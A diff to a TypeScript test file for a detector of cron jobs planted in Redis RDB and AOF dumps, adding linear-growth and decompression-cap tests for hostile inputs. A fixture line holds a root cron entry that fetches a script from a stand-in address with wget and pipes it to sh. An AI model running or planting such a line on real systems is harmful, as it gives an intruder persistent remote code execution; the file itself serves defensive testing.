@@ -1,8 +1,9 @@
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import fc from 'fast-check'
+import { assertGrowsLinearly } from '../../../test/growth.ts'
 import { packedRdb, redisAof } from '../../../test/redis-samples.ts'
-import { bytesOf } from '../../core/bytes.ts'
+import { bytesOf, concat } from '../../core/bytes.ts'
 import { plantedIn, redisFormat } from './redis-planted.ts'
 
 const wget = '*/3 * * * * root wget -q -O- http://192.0.2.7/init.sh | sh'
@@ -42,14 +43,29 @@ test('formats', () => {
   ])
 })
 
-test('a hostile file takes no long time', () => {
-  const began = performance.now()
-  const rdb = (fill: string) => bytesOf('REDIS0009'.padEnd(4 << 20, fill))
-  const strings = new Uint8Array(4 << 20).fill(0xc3)
-  strings.set(bytesOf('REDIS0009'))
-  for (let at = 9; at + 8 < strings.length; at += 8) strings.set([0xc3, 0x7f, 0x00, 0x7f, 0xff, 0, 10, 0], at)
-  for (const bytes of [rdb('\n'), rdb('\n* * * * * x'), strings]) assert.ok([...plantedIn(bytes)].length < 1e6)
-  assert.ok(performance.now() - began < 10_000)
+test('a hostile file takes as long as it is', () => {
+  for (const fill of ['\n', '\n* * * * * x'])
+    assertGrowsLinearly(size => assert.ok([...plantedIn(bytesOf('REDIS0009'.padEnd(size, fill)))].length < size / 8), 8192, fill)
+  const strings = (size: number): Uint8Array => {
+    // Every eighth byte claims 16 KiB of compressed text: room for one after all.
+    const bytes = new Uint8Array(size + (16 << 10)).fill(0xc3)
+    bytes.set(bytesOf('REDIS0009'))
+    for (let at = 9; at + 8 < bytes.length; at += 8) bytes.set([0xc3, 0x7f, 0x00, 0x7f, 0xff, 0, 10, 0], at)
+    return bytes
+  }
+  assertGrowsLinearly(size => assert.deepEqual([...plantedIn(strings(size))], []), 1024, 'compressed strings')
+})
+
+test('of text that expands without end only 32 MiB are looked at', () => {
+  const line = bytesOf('\n* * * * * /x\nz')
+  // 62 references of 264 bytes to the byte before.
+  const packed = [line.length - 1, ...line, ...Array.from({ length: 62 }, () => [0xe0, 255, 0]).flat()]
+  const plain = line.length + 62 * 264
+  assert.ok(plain < 1 << 14)
+  const string = Uint8Array.of(0xc3, 0x40 | (packed.length >> 8), packed.length & 255, 0x40 | (plain >> 8), plain & 255, ...packed)
+  const found = [...plantedIn(concat([bytesOf('REDIS0009'), ...Array.from({ length: 2200 }, () => string)]))]
+  const expanded = found.filter(p => p.span.end - p.span.start === packed.length)
+  assert.equal(expanded.length, Math.ceil((32 << 20) / plain))
 })
 
 test('any bytes: never throws; spans lie within, and the byte to change begins the line', () => {
